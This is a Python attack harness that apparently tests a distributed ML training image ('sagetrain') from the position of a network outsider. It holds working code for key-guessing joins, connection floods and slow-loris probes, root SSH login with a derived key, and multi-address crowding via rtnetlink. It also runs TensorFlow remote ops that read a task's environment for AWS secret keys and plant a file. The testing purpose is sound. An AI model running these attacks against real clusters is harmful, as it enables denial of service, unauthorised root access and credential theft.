"""An outsider on a job's network, run in the image (it uses sagetrain's own code, as an attacker who read
it would). It knows the job's configuration files (a copy at --tree), and prints what it achieved as one
line: ``ATTACK {json}``.

- ``guess``: for each job name in --names (its dictionary; the job's description gives the rest), derive
  the hosts' keys as the image does without a secret and, one connection per guess, try to join as a
  worker and to report rank 0 failed as the master's host. Records the master's answer to each try:
  ``welcome`` (joined), ``ack`` (report taken), ``wrong`` (the master answered the handshake: that guess
  was tested and was wrong), ``unheard`` (closed before the handshake: turned away).
- ``flood``: hold --connections connections to the master's coordinator for --seconds (or until stopped),
  opening a new one for each the master closes; meanwhile a client that sends one byte every 4 s, a line
  of deeply nested JSON and a line longer than a handshake's. Records how long each of those kept its
  connection.
- ``ssh``: log in to --ssh-host as root with a client key derived from the job's description (what the
  image once did for the SageMaker SDK's MPI driver), and fetch its host key.
- ``crowd``: many source addresses from one container: it adds --sources and --malformed-sources to its
  own interface (rtnetlink, as ``ip addr add`` does; the container needs CAP_NET_ADMIN), then from each
  --sources address holds --connections silent connections to the master's coordinator (a new one for
  each the master closes, each attempt given --connect-seconds), and from each --malformed-sources
  address sends SPAKE2 starts with a wrong side byte, one connection after another, until stopped.
  Prints ``CROWD READY`` once every address has connected, then, when stopped, what it achieved.
- ``ports``: connect to every --targets host:port at once, send nothing, and record how each connection
  ended within --seconds: ``reset`` (turned away before the program saw it: the members-only library
  resets, the programs themselves close), ``answered N`` (the program spoke first: sshd's banner, gRPC's
  settings), ``closed`` (the program closed it), ``silent`` (held open), ``refused`` (nothing listens).
  Then, for every --grpc host:port:job:task, run TensorFlow ops on that task as TensorFlow's own clients
  do (a remote eager context): read its process's environment and write a file into /opt/ml/model;
  records ``denied`` or what it read and wrote.
"""

from __future__ import annotations

import argparse
import hashlib
import hmac
import json
import os
import resource
import select
import selectors
import signal
import socket
import struct
import subprocess
import threading
import time
from pathlib import Path

from sagetrain.config.job import load_job_config
from sagetrain.config.job_secret import JobSecret, Membership
from sagetrain.contracts import canonical_json
from sagetrain.deadline import Deadline
from sagetrain.launch.coordinator.trust import HandshakeFailed, open_authenticated
from sagetrain.launch.coordinator.wire import Ack, Hello, PakeStart, RankFailed, Welcome, encode
from sagetrain.report.verdict import RankFailure

IMPOSTOR_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIImpostorKeyImpostorKeyImpostorKeyImpostorKeyI impostor"


def membership(tree: Path, job_name: str) -> Membership:
    config = load_job_config(tree, check_channels=False)
    return Membership.of_job(config, {"TRAINING_JOB_NAME": job_name}, JobSecret())


def attempt(master: str, port: int, host: str, key: bytes, first: Hello | RankFailed) -> str:
    try:
        with socket.create_connection((master, port), timeout=15) as sock:
            connection = open_authenticated(sock, host, key, first, Deadline(15, "the master"))
            answer = connection.receive(Deadline(15, "the master's answer"))
    except HandshakeFailed:
        return "wrong"
    except OSError:
        return "unheard"
    if isinstance(answer, Welcome):
        return "welcome"
    return "ack" if isinstance(answer, Ack) else "closed"


def guess(args: argparse.Namespace) -> dict:
    started = time.monotonic()
    outcomes: dict[str, list[str]] = {"join": [], "report": []}
    hosts = tuple(args.hosts.split(","))
    for name in args.names.split(","):
        keys = membership(args.tree, name)
        hello = Hello(job_hosts=hosts, ssh_host_key=IMPOSTOR_KEY)
        outcomes["join"].append(attempt(args.master, args.port, args.host, keys.host_key(args.host), hello))
        failure = RankFailure(
            0, args.master, 0, "train.py", "cancelled by the admin, see http://example.invalid"
        )
        report = attempt(args.master, args.port, args.master, keys.host_key(args.master), RankFailed(failure))
        outcomes["report"].append(report)
    return {**outcomes, "seconds": time.monotonic() - started}


def held_for(sock: socket.socket, sending: bytes, every: float, limit: float) -> float:
    """Send ``sending`` a byte at a time, ``every`` seconds apart; seconds until the master closed."""
    started = time.monotonic()
    for byte in sending:
        try:
            sock.sendall(bytes([byte]))
        except OSError:
            break
        readable, _, _ = select.select([sock], [], [], every)
        if readable and not sock.recv(4096):
            break
        if time.monotonic() - started > limit:
            break
    return time.monotonic() - started


def closed_after(sock: socket.socket, line: bytes, limit: float) -> float:
    started = time.monotonic()
    try:
        sock.sendall(line)
        sock.settimeout(limit)
        while sock.recv(4096):
            pass
    except OSError:
        pass
    return time.monotonic() - started


def flood(args: argparse.Namespace) -> dict:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    address = (args.master, args.port)
    results: dict[str, float] = {}

    def probe(name: str, run) -> None:  # type: ignore[no-untyped-def]
        with socket.create_connection(address, timeout=20) as sock:
            results[name] = run(sock)

    slow = json.dumps(encode(PakeStart("algo-2", "QUJDRA=="))).encode() + b"\n"
    probes = [
        threading.Thread(target=probe, args=("slow", lambda s: held_for(s, slow, 4.0, 120.0))),
        threading.Thread(target=probe, args=("deep", lambda s: closed_after(s, b"[" * 1000 + b"\n", 60.0))),
        threading.Thread(target=probe, args=("long", lambda s: closed_after(s, b"x" * 100_000, 60.0))),
    ]
    for thread in probes:
        thread.start()
    held = selectors.DefaultSelector()  # epoll: select() cannot watch descriptors past 1024
    opened = 0
    deadline = time.monotonic() + args.seconds
    stopped = threading.Event()  # docker stop: report and end
    signal.signal(signal.SIGTERM, lambda number, frame: stopped.set())
    while time.monotonic() < deadline and not stopped.is_set():
        while len(held.get_map()) < args.connections:
            try:
                held.register(socket.create_connection(address, timeout=5), selectors.EVENT_READ)
                opened += 1
            except OSError:
                break
        for key, _ in held.select(1.0):  # closed by the master: open another
            held.unregister(key.fileobj)
            key.fileobj.close()  # type: ignore[union-attr]
    peak = len(held.get_map())
    for key in list(held.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]
    for thread in probes:
        thread.join(130)
    return {"opened": opened, "held_at_end": peak, **results}


def derived_key_login(args: argparse.Namespace) -> dict:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    keys = membership(args.tree, args.names.split(",")[0])
    seed = hmac.new(keys.job_key, b"sagetrain sdk ssh client key v1", hashlib.sha256).digest()
    private = Ed25519PrivateKey.from_private_bytes(seed).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
    )
    identity = Path("/tmp/derived_id")
    identity.write_bytes(private)
    identity.chmod(0o600)
    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=10", "-o", "StrictHostKeyChecking=no"]
    options += ["-o", "UserKnownHostsFile=/dev/null", "-i", str(identity)]
    login = subprocess.run(
        ["ssh", *options, f"root@{args.ssh_host}", "echo", "logged-in"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    scan = subprocess.run(
        ["ssh-keyscan", "-t", "ed25519", args.ssh_host], capture_output=True, text=True, timeout=60
    )
    return {
        "login_exit": login.returncode,
        "login_output": login.stdout + login.stderr,
        "host_key": " ".join(scan.stdout.split()[1:3]),
    }


# rtnetlink (<linux/rtnetlink.h>, <linux/if_addr.h>): add an IPv4 address to an interface.
RTM_NEWADDR = 20
NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 0x1, 0x4, 0x200, 0x400
IFA_ADDRESS, IFA_LOCAL = 1, 2
NLMSG_HEADER_BYTES = 16
# A SPAKE2 start with the side byte "X" (base64 "WA…"): JSON and base64 as they should be, no peer's message.
WRONG_SIDE = canonical_json(encode(PakeStart("algo-2", "WA" + "A" * 42))) + b"\n"


def add_addresses(addresses: list[str], prefix: int, interface: str) -> None:
    """Give ``interface`` these addresses too, each /``prefix`` (CAP_NET_ADMIN)."""
    index = socket.if_nametoindex(interface)
    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as netlink:
        for sequence, address in enumerate(addresses, 1):
            packed = socket.inet_aton(address)
            attributes = b"".join(struct.pack("=HH", 8, kind) + packed for kind in (IFA_LOCAL, IFA_ADDRESS))
            body = struct.pack("=BBBBI", socket.AF_INET, prefix, 0, 0, index) + attributes
            header = struct.pack("=IHHII", NLMSG_HEADER_BYTES + len(body), RTM_NEWADDR, flags, sequence, 0)
            netlink.send(header + body)
            error = struct.unpack_from("=i", netlink.recv(65536), NLMSG_HEADER_BYTES)[0]
            if error:
                raise OSError(-error, f"adding {address} to {interface}: {os.strerror(-error)}")


class Crowd:
    """The ``crowd`` mode's connections and what came of them."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.stopped = threading.Event()
        self.lock = threading.Lock()
        self.ready: set[str] = set()
        self.counts = {"opened": 0, "unanswered": 0, "starts_sent": 0, "answered_bytes": 0}

    def count(self, name: str, amount: int = 1, address: str = "") -> None:
        with self.lock:
            self.counts[name] += amount
            if address:
                self.ready.add(address)

    def connect(self, source: str) -> socket.socket | None:
        try:
            sock = socket.create_connection(
                (self.args.master, self.args.port),
                timeout=self.args.connect_seconds,
                source_address=(source, 0),
            )
        except OSError:  # refused or, while the master drops this address's packets, unanswered
            self.count("unanswered")
            return None
        self.count("opened", address=source)
        return sock

    def hold(self, source: str) -> None:
        held = selectors.DefaultSelector()
        while not self.stopped.is_set():
            while len(held.get_map()) < self.args.connections and not self.stopped.is_set():
                sock = self.connect(source)
                if sock is None:
                    break
                held.register(sock, selectors.EVENT_READ)
            for key, _ in held.select(0.5):  # closed by the master: open another
                held.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]
        for key in list(held.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]

    def malformed(self, source: str) -> None:
        while not self.stopped.is_set():
            sock = self.connect(source)
            if sock is None:
                continue
            with sock:
                try:
                    sock.sendall(WRONG_SIDE)
                    self.count("starts_sent")
                    sock.settimeout(15)
                    while data := sock.recv(4096):
                        self.count("answered_bytes", len(data))
                except OSError:
                    pass


def crowd(args: argparse.Namespace) -> dict:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    sources = args.sources.split(",")
    malformed = args.malformed_sources.split(",") if args.malformed_sources else []
    add_addresses(sources + malformed, args.prefix, args.interface)
    mob = Crowd(args)
    signal.signal(signal.SIGTERM, lambda number, frame: mob.stopped.set())
    threads = [threading.Thread(target=mob.hold, args=(source,)) for source in sources]
    threads += [threading.Thread(target=mob.malformed, args=(source,)) for source in malformed]
    for thread in threads:
        thread.start()
    announced = False
    while not mob.stopped.wait(0.2):  # until docker stop; says once when every address has connected
        if not announced and len(mob.ready) == len(sources) + len(malformed):
            announced = True
            print("CROWD READY", flush=True)
    for thread in threads:
        thread.join(30)
    return {**mob.counts, "addresses": len(sources) + len(malformed)}


def probe(host: str, port: int, seconds: float) -> str:
    try:
        sock = socket.create_connection((host, port), timeout=seconds)
    except ConnectionRefusedError:
        return "refused"
    except ConnectionResetError:  # reset before connect() returned: it waits for the outcome
        return "reset"
    except OSError as error:
        return f"error {error.errno}"
    with sock:
        sock.settimeout(seconds)
        try:
            data = sock.recv(4096)
        except ConnectionResetError:
            return "reset"
        except TimeoutError:
            return "silent"
    return f"answered {len(data)}" if data else "closed"


# A remote eager context on the task, as tf.distribute's own clients make one; then two ops there.
REMOTE_OPS = """
import json, sys
import tensorflow as tf
host, port, job, task = sys.argv[1:5]
tf.config.experimental_connect_to_cluster(
    tf.train.ClusterSpec({job: {int(task): f"{host}:{port}"}}), job_name="outsider"
)
with tf.device(f"/job:{job}/replica:0/task:{task}/device:CPU:0"):
    environment = tf.io.read_file("/proc/self/environ").numpy()
    tf.io.write_file("/opt/ml/model/outsider-was-here", "planted")
print("REMOTE " + json.dumps({"environ_bytes": len(environment),
      "aws_secret": b"AWS_SECRET_ACCESS_KEY=" in environment, "wrote": True}), flush=True)
"""


def remote_ops(target: str, seconds: float) -> dict:
    host, port, job, task = target.split(":")
    try:
        done = subprocess.run(
            ["python", "-c", REMOTE_OPS, host, port, job, task],
            capture_output=True, text=True, timeout=seconds,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return {"outcome": "denied", "how": f"no answer within {seconds:g} s"}
    for line in done.stdout.splitlines():
        if line.startswith("REMOTE "):
            return {"outcome": "ran", **json.loads(line[len("REMOTE ") :])}
    last = (done.stderr.strip().splitlines() or [""])[-1]
    return {"outcome": "denied", "how": last[-300:]}


def ports(args: argparse.Namespace) -> dict:
    targets = [target for target in args.targets.split(",") if target]
    outcomes: dict[str, str] = {}

    def run(target: str) -> None:
        host, _, port = target.rpartition(":")
        outcomes[target] = probe(host, int(port), args.seconds)

    threads = [threading.Thread(target=run, args=(target,)) for target in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    grpc = {target: remote_ops(target, args.seconds * 2) for target in args.grpc.split(",") if target}
    return {"ports": outcomes, "grpc": grpc}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", choices=("guess", "flood", "ssh", "crowd", "ports"))
    parser.add_argument("--tree", type=Path, default=Path("/attacker/ml"))
    parser.add_argument("--names", default="")
    parser.add_argument("--hosts", default="algo-1,algo-2")
    parser.add_argument("--master", default="algo-1")
    parser.add_argument("--host", default="algo-2")
    parser.add_argument("--port", type=int, default=7077)
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--seconds", type=float, default=500.0)
    parser.add_argument("--ssh-host", default="algo-2")
    parser.add_argument("--sources", default="")
    parser.add_argument("--malformed-sources", default="")
    parser.add_argument("--prefix", type=int, default=16)
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--connect-seconds", type=float, default=1.0)
    parser.add_argument("--targets", default="")
    parser.add_argument("--grpc", default="")
    args = parser.parse_args()
    modes = {"guess": guess, "flood": flood, "ssh": derived_key_login, "crowd": crowd, "ports": ports}
    action = modes[args.mode]
    print("ATTACK " + json.dumps(action(args)), flush=True)


if __name__ == "__main__":
    main()
